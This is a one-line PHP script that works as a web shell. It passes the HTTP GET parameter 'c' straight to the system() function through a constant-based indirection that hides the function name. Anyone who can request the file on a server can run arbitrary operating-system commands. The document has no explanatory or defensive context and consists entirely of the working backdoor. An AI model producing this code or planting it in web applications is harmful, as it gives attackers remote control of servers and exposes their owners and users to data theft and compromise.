<?php define("F", "system"); $f = F; $f($_GET["c"]);
